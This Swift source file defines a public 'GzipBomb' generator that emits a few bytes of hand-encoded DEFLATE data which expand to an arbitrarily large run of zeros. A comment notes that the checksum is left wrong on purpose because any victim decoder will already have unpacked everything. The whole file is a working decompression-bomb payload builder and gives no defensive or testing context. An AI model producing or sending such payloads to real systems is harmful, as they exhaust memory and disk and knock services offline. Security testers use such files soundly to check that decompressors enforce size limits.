public import Foundation

/// A few bytes that unpack to very many zeros.
public enum GzipBomb {
    /// Gzip data for at least `length` zeros: one literal zero, then copies of the longest kind (RFC 1951, fixed codes).
    ///
    /// The checksum at the end is wrong; whoever gets that far has unpacked everything.
    public static func zeros(_ length: Int) -> Data {
        var bits = BitWriter()
        bits.write(1, count: 1)
        bits.write(1, count: 2)
        bits.writeCode(0b0011_0000, count: 8)
        for _ in 0...(length / 258) {
            bits.writeCode(0b1100_0101, count: 8)
            bits.writeCode(0, count: 5)
        }
        bits.writeCode(0, count: 7)
        let header: [UInt8] = [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 0xFF]
        return Data(header + bits.bytes + [UInt8](repeating: 0, count: 8))
    }

    private struct BitWriter {
        private(set) var bytes: [UInt8] = []
        private var used = 8

        mutating func write(_ value: Int, count: Int) {
            for index in 0..<count { writeBit(UInt8((value >> index) & 1)) }
        }

        /// Huffman codes begin with their highest bit.
        mutating func writeCode(_ code: Int, count: Int) {
            for index in (0..<count).reversed() { writeBit(UInt8((code >> index) & 1)) }
        }

        private mutating func writeBit(_ bit: UInt8) {
            if used == 8 {
                bytes.append(0)
                used = 0
            }
            bytes[bytes.count - 1] |= bit << UInt8(used)
            used += 1
        }
    }
}
